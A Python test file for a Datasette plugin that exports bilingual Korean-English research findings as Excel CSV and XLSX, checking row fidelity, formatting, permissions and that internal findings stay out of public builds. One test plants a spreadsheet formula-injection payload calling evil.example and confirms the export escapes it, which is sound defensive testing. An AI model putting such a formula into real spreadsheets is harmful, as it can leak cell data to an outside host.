"""Excel CSV and XLSX downloads hold exactly the rows of the view they come from."""

import json
import re

import pytest
from datasette.app import Datasette

from ingest.build import build
from ingest.memo.citation import SourceRef
from ingest.memo.export import COLUMNS, EXCEL_CELL_LIMIT, TRUNCATED, csv_line, headers, write_xlsx
from ingest.memo.records import FindingRecord

from .conftest import ROOT, WILTON, make_datasette
from .exports import BOM, csv_rows, view_rows, xlsx_rows, xlsx_sheet

ID, TITLE_KO, URL = (headers("ko").index(c.header("ko")) for c in COLUMNS if c.key in ("id", "title_ko", "url"))
VIEWS = [
    "",
    "_theme=crowdfunding",  # what a click on the theme facet gives
    "_theme=financing&_region=europe",
    "kind=observation",
    "kind__in=recommendation,question",
    "_search=finance",
    "_search=finance&_theme=financing",
    "_search=홍보",  # Korean search: the escape_fts a plugin registers runs in the export's query too
    "_search=투자&_theme=financing",
    "kind=observation&_theme=financing&_sort_desc=title",
    "_theme=transparency&_stakeholder=academia",
]


async def download(ds, path: str):
    response = await ds.client.get(path)
    assert response.status_code == 200, response.text
    return response


@pytest.mark.parametrize("query", VIEWS)
async def test_excel_csv_holds_exactly_the_rows_of_the_view(ds, query):
    expected = await view_rows(ds, "/insights/findings", query)
    response = await download(ds, f"/insights/findings/-/export.csv?{query}")
    assert response.content.startswith(BOM)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    header, rows = csv_rows(response.content)
    assert header == headers("ko")
    assert [r[ID] for r in rows] == [r["id"] for r in expected]
    assert [r[TITLE_KO] for r in rows] == [r["title_ko"] for r in expected]


@pytest.mark.parametrize("query", VIEWS)
async def test_xlsx_holds_exactly_the_rows_of_the_view(ds, query):
    expected = await view_rows(ds, "/insights/findings", query)
    response = await download(ds, f"/insights/findings/-/export.xlsx?{query}")
    assert response.content.startswith(b"PK")
    header, rows = xlsx_rows(response.content)
    assert header == headers("ko")
    assert [r[ID] for r in rows] == [r["id"] for r in expected]
    assert [r[TITLE_KO] for r in rows] == [r["title_ko"] for r in expected]


async def test_csv_is_excel_shaped_bom_crlf_and_readable_headers(ds):
    content = (await download(ds, "/insights/findings/-/export.csv?_theme=crowdfunding")).content
    first_line, rest = content.split(b"\r\n", 1)
    assert first_line.startswith(BOM + '"ID","국문 제목 · Korean title"'.encode())
    assert rest.endswith(b"\r\n") and rest.count(b"\r\n") == 1  # one record; LF only inside cells
    _, [row] = csv_rows(content)
    cell = dict(zip([c.key for c in COLUMNS], row))
    assert cell["themes"] == "재원 조달 · Financing; 크라우드펀딩 · Crowdfunding; 시민참여 거버넌스 · Citizen-participatory governance; 기존도시 스마트화 · Existing-city retrofit"
    assert "클라우드 펀딩" in cell["quote"]
    assert "\n" not in cell["summary"]  # the note's hard-wrapped lines, joined as the page shows them
    assert cell["citation"] == (
        "국토연구원. 2016. 「Wilton Park Forum 「Disrupting Smart Cities through Technology」 발표 참석」. 해외출장 복명서. "
        f"{cell['url']}. 채텀하우스 규칙(Chatham House Rule) 적용: 발언자와 소속은 밝히지 않음.")
    assert cell["url"] == f"http://localhost/insights/findings/{WILTON}~2Fcitizen-crowdfunding"  # the address served


async def test_english_first_with_lang_en(ds):
    content = (await download(ds, "/insights/findings/-/export.csv?_theme=crowdfunding&_lang=en")).content
    header, [row] = csv_rows(content)
    assert header == headers("en") and "Korean title · 국문 제목" in header
    assert "Chatham House Rule: speakers and affiliations are not attributed" in row[headers("en").index("Citation · 인용 표기")]


async def test_xlsx_is_formatted_for_reading(ds):
    sheet = xlsx_sheet((await download(ds, "/insights/findings/-/export.xlsx?_theme=financing")).content)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref
    summary = [c.key for c in COLUMNS].index("summary")
    assert sheet.cell(row=2, column=summary + 1).alignment.wrap_text
    letter = sheet.cell(row=1, column=summary + 1).column_letter
    assert sheet.column_dimensions[letter].width >= 60
    link = sheet.cell(row=2, column=URL + 1)
    assert link.hyperlink is not None and link.hyperlink.target == link.value


async def test_memo_canned_query_exports_all_its_rows(ds):
    expected = await view_rows(ds, "/insights/memo", "theme=financing")
    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        _, rows = read((await download(ds, f"/insights/memo/-/export.{fmt}?theme=financing")).content)
        assert [r[ID] for r in rows] == [r["id"] for r in expected]


async def test_the_memo_query_cites_with_the_same_builder(ds):
    """The canned query's citation column is the export's citation, character for character."""
    [canned] = await view_rows(ds, "/insights/memo", "theme=crowdfunding")
    _, [row] = csv_rows((await download(ds, "/insights/findings/-/export.csv?_theme=crowdfunding")).content)
    assert canned["citation"] == row[[c.key for c in COLUMNS].index("citation")]
    assert canned["summary"] == row[[c.key for c in COLUMNS].index("summary")]


async def test_a_note_cannot_put_a_formula_in_a_spreadsheet(notes_dir, tmp_path, wilton_note):
    summary = "Views on smart cities varied to the extreme"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click") ' + summary
    (notes_dir / f"{WILTON}.md").write_text(wilton_note.replace(summary, hostile), encoding="utf-8")
    build(notes_dir, tmp_path / "insights.db")
    ds = make_datasette(tmp_path / "insights.db")
    query = "/insights/findings/-/export.{}?_theme=concept-and-standards&kind=observation"
    _, [csv_row] = csv_rows((await download(ds, query.format("csv"))).content)
    column = [c.key for c in COLUMNS].index("summary")
    assert csv_row[column].startswith("'=HYPERLINK(")  # text to Excel, not a formula
    sheet = xlsx_sheet((await download(ds, query.format("xlsx"))).content)
    cell = sheet.cell(row=2, column=column + 1)
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK(")  # a string cell, verbatim


async def test_internal_findings_never_reach_exports_of_a_public_build(notes_dir, tmp_path, wilton_note):
    secret = "- id: citizen-crowdfunding\n- access: internal"
    (notes_dir / f"{WILTON}.md").write_text(wilton_note.replace("- id: citizen-crowdfunding", secret), encoding="utf-8")
    for name in ("internal", "public"):
        (tmp_path / name).mkdir()
        build(notes_dir, tmp_path / name / "insights.db", public=name == "public")
    internal, public = (make_datasette(tmp_path / name / "insights.db") for name in ("internal", "public"))
    for path in ("/insights/findings/-/export.csv?_theme=financing", "/insights/findings/-/export.xlsx?_theme=financing",
                 "/insights/memo/-/export.csv", "/insights/findings/-/memo.md?_theme=financing"):
        assert "크라우드펀딩의 필요성" in as_text(await download(internal, path)), path
        public_text = as_text(await download(public, path))
        for text in ("크라우드펀딩의 필요성", "Beyond corporate investment", "~2Fcitizen-crowdfunding"):
            assert text not in public_text, (path, text)
    _, [row] = csv_rows((await download(internal, "/insights/findings/-/export.csv?_theme=crowdfunding")).content)
    assert row[[c.key for c in COLUMNS].index("access")] == "internal"


def as_text(response) -> str:
    if response.headers["content-type"].startswith("application/vnd.openxmlformats"):
        return str(xlsx_rows(response.content))
    return response.content.decode("utf-8")


async def test_exports_respect_the_views_permissions(db_path):
    metadata = json.loads((ROOT / "metadata.json").read_text(encoding="utf-8"))
    metadata["databases"]["insights"]["tables"]["findings"]["allow"] = {"id": "editor"}
    metadata["databases"]["insights"]["queries"]["memo"]["allow"] = {"id": "editor"}
    ds = Datasette(files=[str(db_path)], metadata=metadata, plugins_dir=str(ROOT / "plugins"),
                   template_dir=str(ROOT / "templates"))
    for path in ("/insights/findings", "/insights/findings/-/export.csv", "/insights/findings/-/export.xlsx",
                 "/insights/findings/-/memo.md", "/insights/memo/-/export.csv"):
        assert (await ds.client.get(path)).status_code == 403, path
    editor = {"ds_actor": ds.sign({"a": {"id": "editor"}}, "actor")}
    assert (await ds.client.get("/insights/findings/-/export.csv", cookies=editor)).status_code == 200


@pytest.mark.parametrize("path, status", [
    ("/insights/findings/-/export.csv?_lang=fr", 400),
    ("/insights/findings/-/export.csv?_sort=nonsense", 400),
    ("/insights/sources/-/export.csv", 404),
    ("/insights/theme_overview/-/export.csv", 400),  # a canned query without finding ids
])
async def test_bad_requests_get_an_error_page_not_a_broken_file(ds, path, status):
    assert (await ds.client.get(path)).status_code == status


@pytest.mark.parametrize("page, query", [
    ("/insights/findings", "_theme=financing&amp;_region=europe"),
    ("/insights/memo", "theme=crowdfunding"),
    ("/insights/findings_by_theme", "theme=financing"),
])
async def test_pages_link_the_downloads_beside_datasettes_csv(ds, page, query):
    html = (await download(ds, f"{page}?{query.replace('&amp;', '&')}")).text
    [links] = re.findall(r'<p class="export-links">.*?</p>', html, flags=re.S)
    assert ">CSV</a>" in links  # Datasette's own, in the same paragraph
    for label, path in (("Excel CSV", "export.csv"), ("XLSX", "export.xlsx"), ("메모 초안", "memo.md")):
        assert f'href="{page}/-/{path}?{query}">{label}</a>' in links


def test_csv_lines_read_back_as_written():
    values = ['say "hi", then', "line\nbreak", "cr\r\nlf", "", "=1+2", "-list", "@x", "+1", "\ttab", "한국어, 쉼표"]
    first_line, no_more = csv_rows(BOM + csv_line(values).encode())
    assert no_more == [] and first_line == ['say "hi", then', "line\nbreak", "cr\r\nlf", "", "'=1+2", "'-list", "'@x", "'+1", "'\ttab",
                   "한국어, 쉼표"]


def test_an_over_long_cell_is_cut_where_excel_would_lose_it(tmp_path):
    record = FindingRecord("a/b", "Title", "제목", "observation", "관찰 · Observation", ("x",), "X", "", "",
                           "q", "가" * 40_000, "public", "a", SourceRef(None, "S", None, None, None, None, None, None),
                           "S. http://h/a~2Fb", "http://h/a~2Fb")
    with open(tmp_path / "long.xlsx", "wb") as file:
        assert write_xlsx([record], file) == 1
    _, [row] = xlsx_rows((tmp_path / "long.xlsx").read_bytes())
    summary = row[[c.key for c in COLUMNS].index("summary")]
    assert len(summary) == EXCEL_CELL_LIMIT and summary.endswith(TRUNCATED)
